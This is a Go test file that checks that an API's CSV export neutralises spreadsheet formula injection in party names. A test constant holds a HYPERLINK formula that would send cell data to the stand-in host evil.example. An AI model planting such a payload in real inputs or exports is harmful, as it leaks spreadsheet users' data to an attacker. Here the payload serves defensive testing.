package api

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// evilName is a party name a spreadsheet would run as a formula.
const evilName = `=HYPERLINK("https://evil.example/?d="&A1,"详情")`

// TestAssessmentCSVFormulaGuard: a party named like a formula is text in
// GET /assessment as CSV (the web's ranking CSV is the same writer: see
// web.TestRankingCSVFormulaGuard).
func TestAssessmentCSVFormulaGuard(t *testing.T) {
	ts := newTestServer(t)
	d := ts.district()
	evil := ts.register(partyBody(20, evilName, "generator"))
	ts.waste(evil, "900-214-08", 10)
	a := ts.do("GET", "/api/v1/assessment?group_by=party", d.insp.token, nil, "Accept", "text/csv")
	require.Equal(t, http.StatusOK, a.status, "%s", a)
	recs, err := csv.NewReader(strings.NewReader(string(a.body))).ReadAll()
	require.NoError(t, err)
	name := -1
	for i, h := range recs[0] {
		if h == "name" {
			name = i
		}
	}
	require.GreaterOrEqual(t, name, 0, "no name column: %q", recs[0])
	found := false
	for _, r := range recs[1:] {
		if r[name] == "'"+evilName {
			found = true
		}
		for _, cell := range r {
			assert.False(t, strings.HasPrefix(cell, "="), "cell %q is a formula", cell)
		}
	}
	assert.True(t, found, "the party's name, guarded, is not in the CSV:\n%s", a.body)
}
